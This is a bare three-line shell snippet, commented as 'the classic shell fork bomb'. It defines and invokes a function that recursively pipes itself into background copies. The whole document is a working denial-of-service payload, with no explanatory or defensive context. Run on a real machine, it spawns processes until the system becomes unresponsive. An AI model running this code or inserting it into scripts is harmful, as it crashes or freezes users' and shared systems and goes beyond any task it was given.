# The classic shell fork bomb.
b() { b | b & }
b
